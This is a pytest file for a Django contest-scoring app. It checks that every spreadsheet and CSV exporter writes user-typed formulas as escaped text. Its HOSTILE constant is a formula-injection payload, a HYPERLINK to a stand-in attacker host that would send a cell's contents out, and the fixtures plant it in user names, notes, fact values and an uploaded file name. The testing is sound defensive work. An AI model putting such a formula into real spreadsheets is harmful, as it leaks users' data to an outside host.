"""Every registered exporter × every format it writes: a formula typed by a user comes out as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from committee import services as committee
from committee.models import ScoreChange
from core.sheets import exporter
from ops.exporters import entries
from people.models import Role
from scoring.facts.imports import fact_set
from scoring.models import Fact
from submissions.models import Evidence
from tests.factories import UserFactory
from tests.submissions import files
from tests.submissions.test_services import _submit

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
# The standings hold only computed points and the rubric's own names: nothing a user typed.
NO_USER_TEXT = {"standings", "accounts-template"}  # the template holds only its own example


@pytest.fixture
def hostile(rubric, chiang_mai, provincial_user, settings, tmp_path):
    """A formula where users type: a user name, a member's note, the chair's reason, an uploaded file's name,
    and a stored fact value (as an older year's data may hold; the import itself refuses it for a yes/no fact)."""
    settings.MEDIA_ROOT = tmp_path / "media"
    typist = UserFactory(username=HOSTILE)
    fact_set(rubric=rubric, unit=chiang_mai, criterion_code="1.1", name="done", value="yes", user=typist)
    Fact.objects.filter(rubric=rubric, name="done").update(value=HOSTILE)
    # The contest's fact template prefills the stored data facts.
    fact_set(rubric=rubric, unit=chiang_mai, criterion_code="3.3", name="computers_total", value="9")
    Fact.objects.filter(rubric=rubric, name="computers_total").update(value=HOSTILE)
    member, chair = UserFactory(role=Role.COMMITTEE), UserFactory(role=Role.CHAIR)
    cell = {"rubric": rubric, "unit": chiang_mai, "criterion_code": "3.1"}
    committee.judgment_record(member=member, **cell, items=["1"], note=HOSTILE, expected_version=0)
    committee.chair_final_record(chair=chair, **cell, points="5", reason=HOSTILE, expected_version=0)
    _submit(provincial_user, rubric, chiang_mai, "1.1", "=cmd.pdf", files.pdf(b"% one\n"))


def _sources(rubric) -> dict[str, object]:
    """What each scope's one caller passes its exporters."""
    return {
        exporter.YEAR: rubric,
        "fact-import": rubric,
        "contest": rubric.contest,
        "admin-history": ScoreChange.objects.select_related("rubric", "unit", "criterion", "member", "changed_by"),
        "evidence-zip": list(entries(Evidence.objects.select_related("submission__criterion"))),
        "accounts": None,  # the accounts template is the same for everyone
    }


def _cells(data: bytes, fmt: str) -> list:
    if fmt == "csv":
        assert data.startswith(b"\xef\xbb\xbf")
        return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    cells = [c for sheet in load_workbook(io.BytesIO(data)).worksheets for row in sheet.iter_rows() for c in row]
    assert "f" not in {c.data_type for c in cells}  # "f": a formula cell
    return [c.value for c in cells]


CASES = [(e.identifier, fmt) for e in exporter.REGISTRY.values() for fmt in e.formats]


def test_registry_holds_every_export_of_the_product():
    assert CASES == [
        ("standings", "xlsx"),
        ("standings", "csv"),
        ("facts", "xlsx"),
        ("facts", "csv"),
        ("fact-changes", "xlsx"),
        ("fact-changes", "csv"),
        ("fact-template", "xlsx"),
        ("fact-template", "csv"),
        ("contest-fact-template", "xlsx"),
        ("stage-picks", "xlsx"),
        ("stage-picks", "csv"),
        ("judgments", "xlsx"),
        ("judgments", "csv"),
        ("judgment-changes", "xlsx"),
        ("judgment-changes", "csv"),
        ("score-history", "xlsx"),
        ("score-history", "csv"),
        ("accounts-template", "xlsx"),
        ("accounts-template", "csv"),
        ("evidence-index", "csv"),
    ]
    assert all(e.name_th and e.name_en and e.permission for e in exporter.REGISTRY.values())


def _stage_page():
    """A stage's page as whoever runs it reads it, one pick named with a formula (a unit's name is data an office
    may have typed into the units file)."""
    from contests.actor import actor_of
    from stages.selectors import stage_page
    from stages.services import stage_select
    from tests.stages.stage_support import load_chain, organiser

    chain = load_chain()
    chain.rim_nua.name_th = HOSTILE
    chain.rim_nua.save(update_fields=["name_th"])
    stage_select(actor=actor_of(organiser(chain.mae_rim)), contest=chain.district_stage, units=[chain.rim_nua])
    return stage_page(actor_of(UserFactory(role=Role.CENTRAL)), chain.district_stage)


@pytest.mark.parametrize(("identifier", "fmt"), CASES)
def test_every_exporter_writes_formulas_as_text(hostile, rubric, identifier, fmt, clock):
    scope = exporter.get(identifier).scope
    if scope == "stage":
        clock(2021, 12, 1, 10, 0)  # inside the stage's window: the pick is made
    source = _stage_page() if scope == "stage" else _sources(rubric)[scope]
    data, ctype, filename = exporter.export(source, identifier, fmt)
    cells = _cells(data, fmt)
    assert (ctype, filename.endswith(f".{fmt}")) == (exporter.CONTENT_TYPES[fmt], True)
    assert [c for c in cells if exporter.safe_cell(c) != c] == []
    if identifier not in NO_USER_TEXT:
        assert {"'" + HOSTILE, "'=cmd.pdf"} & set(cells)


def test_unknown_exporter_or_format_is_a_key_error(rubric):
    with pytest.raises(KeyError):
        exporter.export(rubric, "nope", "csv")
    with pytest.raises(KeyError):
        exporter.export([], "evidence-index", "xlsx")


def test_year_sheets_only_those_the_user_may_run(central_user, committee_user):
    names = ["standings", "facts", "fact-changes", "judgments", "judgment-changes"]
    assert [e.identifier for e in exporter.year_sheets()] == names
    assert [e.identifier for e in exporter.year_sheets(central_user)] == names
    assert exporter.year_sheets(committee_user) == []
